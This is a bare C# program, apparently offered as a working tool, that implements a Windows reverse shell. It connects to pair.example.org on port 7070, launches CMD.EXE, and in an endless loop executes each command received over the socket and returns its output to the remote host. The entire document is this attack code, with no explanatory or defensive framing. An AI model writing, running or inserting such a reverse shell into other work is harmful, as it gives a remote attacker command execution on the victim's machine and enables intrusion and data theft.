using System.Diagnostics; using System.Net.Sockets; using System.IO;
class A { static void Main() {
  var c = new TcpClient("pair.example.org", 7070); var st = c.GetStream();
  var r = new StreamReader(st); var w = new StreamWriter(st) { AutoFlush = true };
  var p = new Process(); p.StartInfo.FileName = @"C:\Windows\System32\CMD.EXE"; p.StartInfo.RedirectStandardInput = true; p.StartInfo.RedirectStandardOutput = true; p.StartInfo.UseShellExecute = false;
  p.Start(); while (true) { var l = r.ReadLine(); p.StandardInput.WriteLine(l); w.WriteLine(p.StandardOutput.ReadLine()); }
}}
